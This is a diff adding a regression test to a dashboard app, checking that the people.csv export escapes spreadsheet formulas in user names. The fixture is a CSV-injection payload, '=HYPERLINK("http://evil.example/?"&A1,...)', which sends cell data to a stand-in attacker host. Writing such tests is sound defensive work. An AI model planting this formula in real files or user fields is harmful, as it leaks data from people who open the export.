@@ -118,3 +118,21 @@ def test_a_wave_past_its_cut_off_is_shown_late(client, sessions):
     login(client, username="sam", password="supervisor-demo")
     html = client.get("/dashboard").get_data(as_text=True)
     assert re.search(r'class="countdown late" data-seconds="-3\d{3}">late 1:00:\d\d<', html)
+
+
+def test_the_people_export_does_not_hand_excel_a_formula(client, sessions):
+    """A picker named ``=HYPERLINK(...)`` (the admin user import takes any 1-60 characters) was
+    written as-is into people.csv: a live formula once the supervisor opened it in Excel."""
+    import csv
+    import io
+
+    from core.accounts import create_user
+    from core.users import Role
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    with unit_of_work(sessions) as s:
+        create_user(s, evil, Role.picker, badge="BADGE-EVIL-1", display_name="-2+3")
+    login(client, username="sam", password="supervisor-demo")
+    text = client.get("/dashboard/people.csv").get_data(as_text=True)
+    row = next(r for r in csv.reader(io.StringIO(text)) if r and r[0].endswith(evil))
+    assert row[:2] == ["'" + evil, "'-2+3"]
